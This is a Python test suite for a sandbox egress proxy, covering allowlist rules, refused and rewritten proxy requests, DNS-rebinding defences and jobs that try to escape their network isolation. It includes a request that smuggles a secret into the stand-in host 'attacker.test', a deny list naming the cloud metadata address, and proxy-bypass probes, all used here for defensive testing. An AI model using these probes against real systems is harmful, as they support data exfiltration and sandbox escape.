"""Network egress of a job: none by default; with an allowlist, only the listed destinations,
only through the engine's proxy.

The destinations are real servers on the host's loopback addresses (127.0.0.2, 127.0.0.3, ...
need no setup on Linux), which the sandbox's own loopback cannot reach: anything that gets to
them went through the proxy.
"""

from __future__ import annotations

import dataclasses
import http.server
import ipaddress
import os
import socket
import socketserver
import tempfile
import textwrap
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from atoll.engine.executor import ExecutionSpec, Mount, Runtime, SandboxUnavailable
from atoll.engine.sandbox import SandboxExecutor
from atoll.engine.sandbox.allowlist import Allowlist, IPAddress, Rule
from atoll.engine.sandbox.bwrap import (
    INNER_SCRIPT,
    INSIDE_FORWARDER,
    PROXY_URL,
    Egress,
    HostSystem,
    bwrap_argv,
)
from atoll.engine.sandbox.egress_proxy import REFUSALS_REPORTED, EgressProxy
from atoll.engine.sandbox.proxy_request import Refused, parse_request

from .conftest import JobRun, Jobs, marked_mount_points

# -- servers on the host ----------------------------------------------------------------------


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Server

    def do_GET(self) -> None:
        self.server.seen.append((self.path, self.headers.get("Host", "")))
        body = f"hello from {self.server.address}{self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class Server(http.server.ThreadingHTTPServer):
    """An HTTP server on one host address that records the requests it gets."""

    daemon_threads = True

    def __init__(self, host: str, port: int = 0) -> None:
        super().__init__((host, port), _Handler)
        self.address = host
        self.port: int = self.server_address[1]
        self.seen: list[tuple[str, str]] = []
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


class _Echo(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        while data := self.request.recv(65536):
            self.request.sendall(data)


class EchoServer(socketserver.ThreadingTCPServer):
    daemon_threads = True

    def __init__(self, host: str) -> None:
        super().__init__((host, 0), _Echo)
        self.port: int = self.server_address[1]
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


@pytest.fixture
def jobs(any_jobs: Jobs) -> Jobs:
    """The jobs here run with the host's runtime, then with an image's: the forwarder runs
    with the image's Python, the proxy is the engine's all the same."""
    return any_jobs


@pytest.fixture
def servers() -> Iterator[dict[str, Server]]:
    """``allowed`` and ``other_port`` on 127.0.0.2, ``forbidden`` on 127.0.0.3, ``host`` on
    127.0.0.1 (where the engine's own services would be)."""
    started = {
        "allowed": Server("127.0.0.2"),
        "other_port": Server("127.0.0.2"),
        "forbidden": Server("127.0.0.3"),
        "host": Server("127.0.0.1"),
    }
    try:
        yield started
    finally:
        for s in started.values():
            s.stop()


@pytest.fixture
def echo() -> Iterator[EchoServer]:
    server = EchoServer("127.0.0.2")
    try:
        yield server
    finally:
        server.stop()


def with_egress(spec: ExecutionSpec, *entries: str) -> ExecutionSpec:
    return dataclasses.replace(spec, egress=tuple(entries))


def with_client(code: str) -> str:
    return PROXY_CLIENT + textwrap.dedent(code)


def run_with_egress(jobs: Jobs, code: str, *entries: str) -> JobRun:
    spec = with_egress(jobs.spec(code), *entries)
    execution, buf = jobs.start(spec)
    return jobs.finish(spec, execution, buf)


#: for jobs: a raw proxy exchange. ``proxy_head(request)`` sends ``request`` to the forwarder
#: and returns the status line of the answer and the socket, still open
PROXY_CLIENT = """
import socket
def proxy_head(request, timeout=10):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=timeout)
    s.sendall(request.encode())
    buf = b""
    while b"\\r\\n\\r\\n" not in buf:
        data = s.recv(65536)
        if not data:
            break
        buf += data
    head, _, rest = buf.partition(b"\\r\\n\\r\\n")
    return head.split(b"\\r\\n")[0].decode(), s, rest
def status(request):
    line, s, _ = proxy_head(request)
    s.close()
    return line
"""


def proxy_threads(job_id: str) -> list[str]:
    name = f"atoll-egress-{job_id}"
    return [t.name for t in threading.enumerate() if t.name in {name, f"{name}-conn"}]


def forwarders_of(job_id: str) -> list[int]:
    """Host pids of the forwarder of ``job_id``."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        # forwarder.py SOCKET PORT JOB; bubblewrap's own arguments name the script too
        path = INSIDE_FORWARDER.encode()
        if path in args and args[args.index(path) + 3 :][:1] == [job_id.encode()]:
            found.append(int(entry.name))
    return found


# -- the allowlist (pure) -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "rule"),
    [
        ("example.org:443", Rule("example.org", 443)),
        ("Example.ORG.", Rule("example.org", None)),
        ("*.example.org:80", Rule("*.example.org", 80)),
        ("*.Org.", Rule("*.org", None)),
        ("127.0.0.2:8080", Rule("127.0.0.2", 8080, ipaddress.IPv4Address("127.0.0.2"))),
        ("10.0.0.1", Rule("10.0.0.1", None, ipaddress.IPv4Address("10.0.0.1"))),
        ("[2001:DB8::1]:443", Rule("[2001:db8::1]", 443, ipaddress.IPv6Address("2001:db8::1"))),
        ("my_host-1.internal", Rule("my_host-1.internal", None)),
    ],
)
def test_rules_parse(entry: str, rule: Rule) -> None:
    assert Rule.parse(entry) == rule


@pytest.mark.parametrize(
    "entry",
    [
        "",
        "*",
        "*.",
        "*.127",
        "example.org:0",
        "example.org:65536",
        "example.org:",
        "example.org:http",
        "2001:db8::1",  # IPv6 without brackets
        "127.1",  # inet_aton shorthand for 127.0.0.1
        "2130706433",
        "0.0.0.0",
        "224.0.0.1",
        "exa mple.org",
        "-bad.org",
        "http://example.org",
        "b\u00fccher.de",
        "a" * 64 + ".org",
    ],
)
def test_invalid_rules_are_rejected(entry: str) -> None:
    with pytest.raises(ValueError):
        Rule.parse(entry)


def test_allowlist_matching() -> None:
    allow = Allowlist.parse(["data.example.org:443", "*.cdn.example.org", "127.0.0.2:8080"])
    assert allow.permits("data.example.org", 443)
    assert not allow.permits("data.example.org", 80)
    assert not allow.permits("other.example.org", 443)
    assert not allow.permits("example.org", 443)
    assert allow.permits("a.cdn.example.org", 1)
    assert allow.permits("a.b.cdn.example.org", 65535)
    assert not allow.permits("cdn.example.org", 443)  # the wildcard is for names below it
    assert not allow.permits("evilcdn.example.org", 443)
    assert allow.permits("127.0.0.2", 8080)
    assert not allow.permits("127.0.0.2", 8081)
    assert not allow.permits("127.0.0.3", 8080)
    assert not Allowlist.parse([]).permits("127.0.0.2", 8080)
    assert not Allowlist.parse([])


def test_names_may_not_lead_to_special_addresses_unless_listed() -> None:
    allow = Allowlist.parse(["data.example.org", "127.0.0.2:8080"])

    def may(address: str) -> bool:
        return allow.may_resolve_to(ipaddress.ip_address(address))

    assert may("93.184.215.14")
    assert may("10.1.2.3")  # a publisher's internal host is a legitimate destination
    assert may("2001:db8::5")
    for special in ("127.0.0.1", "169.254.169.254", "0.0.0.0", "0.1.2.3", "224.0.0.1",
                    "::1", "::ffff:127.0.0.1", "fe80::1", "240.0.0.1"):  # fmt: skip
        assert not may(special), special
    assert may("127.0.0.2")  # listed itself
    assert may("::ffff:127.0.0.2")


def test_proxy_requests_are_parsed_and_rewritten() -> None:
    connect = parse_request(b"CONNECT Data.Example.org:443 HTTP/1.1\r\nHost: x")
    assert (connect.host, connect.port, connect.upstream_head) == ("data.example.org", 443, None)
    v6 = parse_request(b"CONNECT [::1]:22 HTTP/1.1")
    assert (v6.host, v6.address, v6.port) == ("[::1]", ipaddress.IPv6Address("::1"), 22)

    get = parse_request(
        b"GET http://127.0.0.2:8080/a/b?q=1 HTTP/1.1\r\n"
        b"Host: forbidden.example.com\r\n"
        b"Proxy-Authorization: Basic eA==\r\n"
        b"Proxy-Connection: keep-alive\r\n"
        b"Connection: keep-alive, X-Hop\r\n"
        b"X-Hop: 1\r\n"
        b"Accept: */*"
    )
    assert (get.host, get.port) == ("127.0.0.2", 8080)
    assert get.upstream_head == (
        b"GET /a/b?q=1 HTTP/1.1\r\nHost: 127.0.0.2:8080\r\nAccept: */*\r\nConnection: close\r\n\r\n"
    )
    bare = parse_request(b"GET http://example.org HTTP/1.0")
    assert bare.port == 80
    assert bare.upstream_head is not None
    assert bare.upstream_head.startswith(b"GET / HTTP/1.0\r\nHost: example.org\r\n")


@pytest.mark.parametrize(
    "head",
    [
        b"GET https://example.org/ HTTP/1.1",
        b"GET /relative HTTP/1.1",
        b"GET http://user:pw@example.org/ HTTP/1.1",
        b"GET http://127.1/ HTTP/1.1",
        b"CONNECT example.org HTTP/1.1",
        b"CONNECT example.org:443 HTTP/2",
        b"GET http://example.org/ HTTP/1.1 extra",
        b"GET http://ex\xc3\xa4mple.org/ HTTP/1.1",
        b"GET http://example.org/ HTTP/1.1\r\n folded",
    ],
)
def test_bad_proxy_requests_are_refused(head: bytes) -> None:
    with pytest.raises(Refused) as refused:
        parse_request(head)
    assert refused.value.status == 400


# -- the proxy on its own (no sandbox) ----------------------------------------------------------


class Resolver:
    def __init__(self, answers: dict[str, list[str]]) -> None:
        self.answers = answers
        self.asked: list[str] = []

    def __call__(self, host: str, port: int) -> Sequence[IPAddress]:
        self.asked.append(host)
        if host not in self.answers:
            raise socket.gaierror(socket.EAI_NONAME, "unknown")
        return [ipaddress.ip_address(a) for a in self.answers[host]]


def ask(proxy: EgressProxy, request: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(str(proxy.socket_path))
        s.sendall(request)
        s.shutdown(socket.SHUT_WR)
        out = b""
        while data := s.recv(65536):
            out += data
    return out


def get(host: str, port: int, path: str = "/") -> bytes:
    return f"GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


@pytest.fixture
def proxy_factory() -> Iterator[type[EgressProxy]]:
    made: list[EgressProxy] = []

    class Tracked(EgressProxy):
        def start(self) -> Path:
            made.append(self)
            return super().start()

    yield Tracked
    for p in made:
        p.close()


def test_proxy_checks_before_resolving_and_connects_to_what_it_checked(
    servers: dict[str, Server], proxy_factory: type[EgressProxy]
) -> None:
    allowed, forbidden = servers["allowed"], servers["forbidden"]
    port = allowed.port
    resolver = Resolver({"data.example.test": ["127.0.0.3", "127.0.0.2"]})
    refusals: list[str] = []
    proxy = proxy_factory(
        Allowlist.parse([f"data.example.test:{port}", "127.0.0.2"]),
        name="unit",
        resolver=resolver,
        on_refused=refusals.append,
    )
    proxy.start()

    answer = ask(proxy, get("data.example.test", port, "/by-name"))
    assert answer.startswith(b"HTTP/1.0 200"), answer
    assert answer.endswith(b"hello from 127.0.0.2/by-name")
    # resolved once; 127.0.0.3 (loopback, not listed) was dropped before connecting
    assert resolver.asked == ["data.example.test"]
    assert allowed.seen == [("/by-name", f"data.example.test:{port}")]
    assert forbidden.seen == []

    # a name that is not listed is never looked up, so lookups cannot carry data out
    answer = ask(proxy, get("secret-1234.attacker.test", port))
    assert answer.startswith(b"HTTP/1.1 403 Forbidden")
    assert resolver.asked == ["data.example.test"]
    assert refusals == [f"egress refused: secret-1234.attacker.test:{port}"]


def test_proxy_refuses_a_name_that_leads_to_the_host(
    servers: dict[str, Server], proxy_factory: type[EgressProxy]
) -> None:
    host = servers["host"]
    resolver = Resolver({"rebound.example.test": ["127.0.0.1"], "gone.example.test": []})
    proxy = proxy_factory(
        Allowlist.parse(["rebound.example.test", "gone.example.test"]),
        name="unit",
        resolver=resolver,
    )
    proxy.start()
    answer = ask(proxy, get("rebound.example.test", host.port))
    assert answer.startswith(b"HTTP/1.1 403 Forbidden")
    assert b"resolves to an address this job may not reach" in answer
    assert ask(proxy, get("gone.example.test", host.port)).startswith(b"HTTP/1.1 502")
    assert ask(proxy, get("unknown.example.test", host.port)).startswith(b"HTTP/1.1 403")
    assert host.seen == []


def test_proxy_caps_connections_and_cleans_up(
    echo: EchoServer, proxy_factory: type[EgressProxy]
) -> None:
    proxy = proxy_factory(Allowlist.parse([f"127.0.0.2:{echo.port}"]), name="unit-cap")
    proxy.max_connections = 2
    proxy._slots = threading.BoundedSemaphore(2)
    directory = proxy.start()
    assert directory.stat().st_mode & 0o777 == 0o700
    tunnels = []
    for _ in range(2):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(str(proxy.socket_path))
        s.sendall(f"CONNECT 127.0.0.2:{echo.port} HTTP/1.1\r\n\r\n".encode())
        assert s.recv(1024).startswith(b"HTTP/1.1 200")
        tunnels.append(s)
    third = ask(proxy, f"CONNECT 127.0.0.2:{echo.port} HTTP/1.1\r\n\r\n".encode())
    assert third.startswith(b"HTTP/1.1 503")
    tunnels[0].sendall(b"still works")
    assert tunnels[0].recv(1024) == b"still works"
    assert proxy_threads("unit-cap")
    proxy.close()
    # close() ends the open tunnels too
    assert tunnels[1].recv(1024) == b""
    for s in tunnels:
        s.close()
    assert not proxy.running
    assert not directory.exists()
    assert proxy_threads("unit-cap") == []


def test_proxy_reports_refusals_up_to_a_cap(
    servers: dict[str, Server], proxy_factory: type[EgressProxy]
) -> None:
    forbidden = servers["forbidden"]
    refusals: list[str] = []
    proxy = proxy_factory(Allowlist.parse(["127.0.0.2"]), name="unit", on_refused=refusals.append)
    proxy.start()
    for _ in range(REFUSALS_REPORTED + 5):
        assert ask(proxy, get("127.0.0.3", forbidden.port)).startswith(b"HTTP/1.1 403")
    line = f"egress refused: 127.0.0.3:{forbidden.port}"
    assert refusals == [line] * REFUSALS_REPORTED + [
        "egress refused: more refusals follow, not logged"
    ]
    assert forbidden.seen == []


def test_proxy_closes_idle_tunnels(echo: EchoServer, proxy_factory: type[EgressProxy]) -> None:
    proxy = proxy_factory(
        Allowlist.parse([f"127.0.0.2:{echo.port}"]), name="unit-idle", idle_timeout=0.2
    )
    proxy.start()
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(str(proxy.socket_path))
        s.sendall(f"CONNECT 127.0.0.2:{echo.port} HTTP/1.1\r\n\r\n".encode())
        assert s.recv(1024).startswith(b"HTTP/1.1 200")
        s.sendall(b"ping")
        assert s.recv(1024) == b"ping"
        # then silence: the proxy hangs up rather than hold the connection forever
        assert s.recv(1024) == b""


# -- the command line (pure) -------------------------------------------------------------------


def test_egress_changes_nothing_else_on_the_command_line(tmp_path: Path) -> None:
    spec = ExecutionSpec(
        job_id="j1",
        runtime=Runtime(Path("/usr/bin/python3")),
        args=["/data/transformations/algorithm"],
        mounts=[],
        env={"HTTP_PROXY": "http://elsewhere:1"},
        outputs_dir=tmp_path / "out",
        logs_dir=tmp_path / "logs",
    )
    plain = bwrap_argv("bwrap", spec, shell="/bin/sh", host=HostSystem())
    egress = Egress(tmp_path / "sock", "proxy.sock", tmp_path / "forwarder.py")
    with_net = bwrap_argv("bwrap", with_egress(spec, "x.org"), shell="/bin/sh",
                          host=HostSystem(), egress=egress)  # fmt: skip
    assert INNER_SCRIPT in plain
    assert not any("/run/atoll" in a for a in plain)
    for argv in (plain, with_net):
        assert "--unshare-net" in argv
        assert "--share-net" not in argv
    assert INNER_SCRIPT not in with_net
    assert any(a.endswith(INNER_SCRIPT) and INSIDE_FORWARDER in a for a in with_net)
    i = with_net.index("HTTP_PROXY")
    # the engine's proxy wins over the job's own setting
    assert with_net[i - 1 : i + 2] == ["--setenv", "HTTP_PROXY", PROXY_URL]
    assert with_net.count("HTTP_PROXY") == 1


# -- real sandbox jobs ------------------------------------------------------------------------


def test_no_network_by_default(jobs: Jobs, servers: dict[str, Server]) -> None:
    allowed = servers["allowed"]
    run = jobs.run(
        f"""
        import socket, urllib.request
        def tcp(host, port):
            socket.create_connection((host, port), timeout=5).close()
        def fetch():
            urllib.request.urlopen("http://127.0.0.2:{allowed.port}/", timeout=5).read()
        devices = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
        report(direct=attempt(tcp, "127.0.0.2", {allowed.port}),
               proxy_port=attempt(tcp, "127.0.0.1", 3128),
               fetch=attempt(fetch),
               env=sorted(k for k in os.environ if "proxy" in k.lower()),
               run_dir=[os.path.join(d, n) for d, ds, fs in os.walk("/run") for n in ds + fs],
               devices=devices)
        """
    )
    assert run.report == {
        "direct": "ECONNREFUSED",
        "proxy_port": "ECONNREFUSED",
        "fetch": "URLError",
        "env": [],
        # nothing of the egress set up: an image's job has only the shell that started it
        "run_dir": [] if jobs.image is None else ["/run/atoll", "/run/atoll/sh"],
        "devices": ["lo"],
    }
    assert allowed.seen == []


def test_allowlisted_host_answers_and_another_does_not(
    jobs: Jobs, servers: dict[str, Server]
) -> None:
    allowed, forbidden = servers["allowed"], servers["forbidden"]
    run = run_with_egress(
        jobs,
        f"""
        import urllib.request, urllib.error
        def fetch(url):
            try:
                with urllib.request.urlopen(url, timeout=10) as r:
                    return [r.status, r.read().decode()]
            except urllib.error.HTTPError as e:
                return [e.code, e.read().decode()]
        report(allowed=fetch("http://127.0.0.2:{allowed.port}/data?x=1"),
               again=fetch("http://127.0.0.2:{allowed.port}/again"),
               forbidden=fetch("http://127.0.0.3:{forbidden.port}/"),
               env=os.environ["HTTP_PROXY"], no_proxy=os.environ["NO_PROXY"])
        """,
        f"127.0.0.2:{allowed.port}",
    )
    r = run.report
    assert r["allowed"] == [200, "hello from 127.0.0.2/data?x=1"]
    assert r["again"] == [200, "hello from 127.0.0.2/again"]
    assert r["forbidden"][0] == 403
    assert f"127.0.0.3:{forbidden.port} is not allowed" in r["forbidden"][1]
    assert (r["env"], r["no_proxy"]) == ("http://127.0.0.1:3128", "")
    assert [p for p, _ in allowed.seen] == ["/data?x=1", "/again"]
    assert forbidden.seen == []
    assert f"[atoll] egress refused: 127.0.0.3:{forbidden.port}\n".encode() in run.log


def test_no_route_around_the_proxy(jobs: Jobs, servers: dict[str, Server]) -> None:
    allowed, other, forbidden, host = (
        servers["allowed"],
        servers["other_port"],
        servers["forbidden"],
        servers["host"],
    )
    run = run_with_egress(
        jobs,
        with_client(
            f"""
        import socket, urllib.request
        def tcp(host, port):
            socket.create_connection((host, port), timeout=5).close()
        def unix_proxy(request):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.connect("/run/atoll/egress/proxy.sock")
                s.sendall(request.encode())
                return s.recv(100).split(b"\\r\\n")[0].decode()
        devices = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
        report(direct=attempt(tcp, "127.0.0.2", {allowed.port}),
               direct_other=attempt(tcp, "127.0.0.3", {forbidden.port}),
               public=attempt(tcp, "1.1.1.1", 443),
               dns=attempt(socket.getaddrinfo, "example.com", 443),
               devices=devices,
               routes=open("/proc/net/route").read().splitlines()[1:],
               connect_forbidden=status("CONNECT 127.0.0.3:{forbidden.port} HTTP/1.1\\r\\n\\r\\n"),
               connect_other_port=status("CONNECT 127.0.0.2:{other.port} HTTP/1.1\\r\\n\\r\\n"),
               get_other_port=status("GET http://127.0.0.2:{other.port}/ HTTP/1.1\\r\\n\\r\\n"),
               by_name=status("GET http://localhost:{host.port}/ HTTP/1.1\\r\\n\\r\\n"),
               https_uri=status("GET https://127.0.0.2:{allowed.port}/ HTTP/1.1\\r\\n\\r\\n"),
               via_socket=unix_proxy("CONNECT 127.0.0.3:{forbidden.port} HTTP/1.0\\r\\n\\r\\n"),
               socket_write=attempt(open, "/run/atoll/egress/other.sock", "w"))
        """
        ),
        f"127.0.0.2:{allowed.port}",
        "localhost",  # a listed name still may not lead to the host's own services
    )
    r = run.report
    assert r["direct"] == "ECONNREFUSED"
    assert r["direct_other"] == "ECONNREFUSED"
    assert r["public"] == "ENETUNREACH"
    assert r["dns"] == "gaierror"
    assert r["devices"] == ["lo"]
    assert r["routes"] == []
    for key in ("connect_forbidden", "connect_other_port", "get_other_port", "by_name",
                "via_socket"):  # fmt: skip
        assert r[key] == "HTTP/1.1 403 Forbidden", key
    assert r["https_uri"] == "HTTP/1.1 400 Bad Request"
    assert r["socket_write"] in {"EROFS", "EACCES"}
    assert other.seen == []
    assert forbidden.seen == []
    assert host.seen == []
    assert allowed.seen == []


def test_connect_tunnel_to_an_allowed_host(
    jobs: Jobs, servers: dict[str, Server], echo: EchoServer
) -> None:
    allowed = servers["allowed"]
    run = run_with_egress(
        jobs,
        with_client(
            f"""
        import hashlib, socket
        # a megabyte through the echo server, half-closed at the end
        line, s, rest = proxy_head("CONNECT 127.0.0.2:{echo.port} HTTP/1.1\\r\\n\\r\\n")
        payload = os.urandom(1024 * 1024)
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        back = rest
        while data := s.recv(65536):
            back += data
        s.close()
        # several tunnels open at once
        tunnels = [proxy_head("CONNECT 127.0.0.2:{echo.port} HTTP/1.1\\r\\n\\r\\n")[1]
                   for _ in range(8)]
        for i, t in enumerate(tunnels):
            t.sendall(b"tunnel %d" % i)
        answers = [t.recv(100).decode() for t in tunnels]
        for t in tunnels:
            t.close()
        # HTTP inside a tunnel
        http_line, h, _ = proxy_head("CONNECT 127.0.0.2:{allowed.port} HTTP/1.1\\r\\n\\r\\n")
        h.sendall(b"GET /tunnelled HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
        response = b""
        while data := h.recv(65536):
            response += data
        report(line=line, same=back == payload, size=len(back), answers=answers,
               http_line=http_line, response=response.decode())
        """
        ),
        f"127.0.0.2:{echo.port}",
        "127.0.0.2",
    )
    r = run.report
    assert r["line"] == "HTTP/1.1 200 Connection established"
    assert (r["same"], r["size"]) == (True, 1024 * 1024)
    assert r["answers"] == [f"tunnel {i}" for i in range(8)]
    assert r["http_line"] == "HTTP/1.1 200 Connection established"
    assert r["response"].startswith("HTTP/1.0 200")
    assert r["response"].endswith("hello from 127.0.0.2/tunnelled")
    assert allowed.seen == [("/tunnelled", "x")]


def test_proxy_and_forwarder_end_with_the_job(
    jobs: Jobs, servers: dict[str, Server], tmp_path: Path
) -> None:
    allowed = servers["allowed"]
    signal_dir = tmp_path / "signal"
    signal_dir.mkdir()
    spec = jobs.spec(
        f"""
        import time, urllib.request
        body = urllib.request.urlopen("http://127.0.0.2:{allowed.port}/", timeout=10).read()
        # bubblewrap (pid 1) and this process aside
        me = str(os.getpid())
        others = [p for p in os.listdir("/proc") if p.isdigit() and p not in ("1", me)]
        forwarders = [p for p in others
                      if b"{INSIDE_FORWARDER}" in open(f"/proc/{{p}}/cmdline", "rb").read()]
        print("WAITING", flush=True)
        deadline = time.monotonic() + 15
        while not os.path.exists("/data/inputs/signal/go") and time.monotonic() < deadline:
            time.sleep(0.02)
        report(body=body.decode(), forwarders=len(forwarders))
        """,
        mounts=[Mount(signal_dir, "/data/inputs/signal")],
    )
    spec = with_egress(spec, f"127.0.0.2:{allowed.port}")
    execution, buf = jobs.start(spec)
    buf.watch = b"WAITING"
    proxy = execution.egress
    assert proxy is not None
    try:
        assert buf.seen.wait(15), buf.data
        assert proxy.running
        assert proxy.socket_path.exists()
        assert proxy_threads(spec.job_id)
        assert len(forwarders_of(spec.job_id)) == 1
    finally:
        (signal_dir / "go").touch()
    run = jobs.finish(spec, execution, buf)
    assert run.report == {"body": "hello from 127.0.0.2/", "forwarders": 1}
    assert not proxy.running
    assert proxy.directory is not None
    assert not proxy.directory.exists()
    assert proxy_threads(spec.job_id) == []
    assert forwarders_of(spec.job_id) == []
    unix_table = Path("/proc/net/unix").read_text()
    assert str(proxy.socket_path) not in unix_table


@pytest.fixture
def started_proxies(monkeypatch: pytest.MonkeyPatch) -> list[EgressProxy]:
    """Every EgressProxy started during the test."""
    started: list[EgressProxy] = []
    start = EgressProxy.start

    def recording_start(self: EgressProxy, owner: tuple[int, int] | None = None) -> Path:
        started.append(self)
        return start(self, owner)

    monkeypatch.setattr(EgressProxy, "start", recording_start)
    return started


def assert_gone(proxy: EgressProxy) -> None:
    assert not proxy.running
    assert proxy.directory is not None
    assert not proxy.directory.exists()
    assert proxy_threads(proxy.name) == []


def not_python(jobs: Jobs) -> str:
    return "/usr/bin/sh" if jobs.image is None else "/bin/tar"


def test_fails_closed_when_the_forwarder_cannot_run(
    jobs: Jobs,
    sandbox: SandboxExecutor,
    servers: dict[str, Server],
    started_proxies: list[EgressProxy],
) -> None:
    spec = with_egress(
        # a runtime that is not Python: the host's shell, or a program of the image
        jobs.spec("print('must not run')", runtime=jobs.runtime(Path(not_python(jobs)))),
        f"127.0.0.2:{servers['allowed'].port}",
    )
    with pytest.raises(SandboxUnavailable) as failed:
        jobs.start(spec)
    assert "needs a Python runtime" in str(failed.value)
    assert tempfile.gettempdir() not in str(failed.value)
    [proxy] = started_proxies
    assert_gone(proxy)
    assert marked_mount_points(sandbox.mount_marker) == []
    assert servers["allowed"].seen == []
    jobs.assert_healthy()


def test_fails_closed_when_the_proxy_does_not_answer(
    jobs: Jobs,
    sandbox: SandboxExecutor,
    monkeypatch: pytest.MonkeyPatch,
    started_proxies: list[EgressProxy],
) -> None:
    recording_start = EgressProxy.start

    def start_then_lose_socket(self: EgressProxy, owner: tuple[int, int] | None = None) -> Path:
        directory = recording_start(self, owner)
        self.socket_path.unlink()
        return directory

    monkeypatch.setattr(EgressProxy, "start", start_then_lose_socket)
    spec = with_egress(jobs.spec("report(ran=True)"), "127.0.0.2:80")
    with pytest.raises(SandboxUnavailable):
        jobs.start(spec)
    [proxy] = started_proxies
    assert_gone(proxy)
    assert marked_mount_points(sandbox.mount_marker) == []
    monkeypatch.undo()
    jobs.assert_healthy()


def test_invalid_allowlist_is_refused_before_anything_starts(
    jobs: Jobs, sandbox: SandboxExecutor
) -> None:
    spec = with_egress(jobs.spec("report(ran=True)"), "127.0.0.2:80", "not a host")
    with pytest.raises(SandboxUnavailable, match="allowlist is invalid") as failed:
        jobs.start(spec)
    assert "not a host" not in str(failed.value)  # the publisher's entries stay private
    assert marked_mount_points(sandbox.mount_marker) == []
